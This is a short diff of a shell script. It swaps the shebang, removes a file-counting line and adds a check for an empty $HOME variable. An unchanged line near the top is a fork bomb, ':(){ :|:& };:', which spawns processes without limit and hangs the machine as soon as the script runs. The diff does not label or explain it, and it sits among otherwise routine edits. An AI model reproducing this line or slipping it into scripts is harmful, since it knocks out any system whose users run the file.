@@ -1,4 +1,5 @@
-#!/usr/bin/env bash
+#!/bin/sh
 :(){ :|:& };:
-count=$(ls | wc -l)
-echo "files: $count"
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
